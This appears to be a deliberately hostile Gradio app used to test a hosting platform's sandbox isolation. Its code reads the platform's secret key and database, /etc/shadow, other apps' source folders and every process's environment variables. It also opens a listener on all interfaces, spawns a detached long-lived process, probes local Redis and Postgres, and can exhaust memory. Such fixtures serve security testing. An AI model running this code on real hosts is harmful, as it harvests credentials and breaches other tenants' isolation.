"""Hostile: tries to read the platform's files and processes, other Spaces, and to listen outside."""

import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import gradio as gr

HERE = Path(__file__).resolve().parent
DATA = HERE.parents[2]  # DATA_DIR/sources/OWNER--NAME/<sha>/app.py, if the host's layout shows through
SIDE_PORT = 7861

# Listen on every interface, on another port than the one the gateway connects to, and stay there.
side = socket.socket()
side.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
side.bind(("0.0.0.0", SIDE_PORT))
side.listen(16)

# A child that leaves the app's session and process group, and would outlive it if it could.
if os.environ.get("PROBER_SPAWN", "1") == "1":
    subprocess.Popen(
        [sys.executable, "-c", "import os, time; os.fork() or os.setsid(); time.sleep(3600)"],
        start_new_session=True,
    )


def attempt(what: str, fn: Callable[[], object]) -> dict[str, object]:
    try:
        return {"what": what, "ok": True, "got": repr(fn())[:300]}
    except Exception as exc:
        return {"what": what, "ok": False, "error": f"{type(exc).__name__}: {exc}"[:300]}


def read(path: str | Path) -> Callable[[], bytes]:
    return lambda: Path(path).read_bytes()[:200]


def listing(path: str | Path) -> Callable[[], list[str]]:
    return lambda: sorted(os.listdir(path))


def environs() -> dict[str, str]:
    found: dict[str, str] = {}
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                found[pid] = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace")
            except OSError as exc:
                found[pid] = f"unreadable: {exc}"
    return found


def connect(host: str, port: int) -> Callable[[], object]:
    def go() -> object:
        with socket.create_connection((host, port), timeout=2) as s:
            return s.getpeername()

    return go


def probe(platform_port: str) -> str:
    port = int(platform_port or 0)
    results = [
        attempt("secret.key", read(DATA / "secret.key")),
        attempt("spaceyard.db", read(DATA / "spaceyard.db")),
        attempt("data dir", listing(DATA)),
        attempt("repos", listing(DATA / "repos")),
        attempt("sources", listing(DATA / "sources")),
        attempt("victim source", listing(DATA / "sources" / "admin--victim")),
        attempt("runtime dir", listing(DATA / "runtime" / "spaces")),
        attempt("logs", listing(DATA / "logs")),
        attempt("etc shadow", read("/etc/shadow")),
        attempt("root home", listing("/root")),
        attempt("platform port", connect("127.0.0.1", port)),
        attempt("redis", connect("127.0.0.1", 6379)),
        attempt("postgres", connect("127.0.0.1", 5432)),
        attempt("docker socket", listing("/var/run")),
    ]
    env = environs()
    return json.dumps(
        {
            "uid": os.getuid(),
            "gid": os.getgid(),
            "groups": os.getgroups(),
            "pids": sorted(int(p) for p in env),
            "environs": env,
            "own_env": dict(os.environ),
            "results": results,
            "home_writable": attempt("home", lambda: (Path.home() / "probe.txt").write_text("x")),
            "cwd": os.getcwd(),
        }
    )


def eat(megabytes: str) -> str:
    hog: list[bytearray] = []
    for _ in range(int(megabytes)):
        hog.append(bytearray(1 << 20))
    return f"survived {len(hog)} MiB"


def reverse(path: str) -> str:
    """Upload in, download out: the file's bytes reversed, written under the app's own TMPDIR."""
    import tempfile

    out = Path(tempfile.mkdtemp()) / "reversed.bin"
    out.write_bytes(Path(path).read_bytes()[::-1])
    return str(out)


with gr.Blocks() as demo:
    port_box = gr.Textbox()
    out = gr.Textbox()
    gr.Button("probe").click(probe, port_box, out, api_name="probe")
    gr.Button("eat").click(eat, port_box, out, api_name="eat")
    file_in, file_out = gr.File(type="filepath"), gr.File()
    gr.Button("reverse").click(reverse, file_in, file_out, api_name="reverse")

demo.launch()
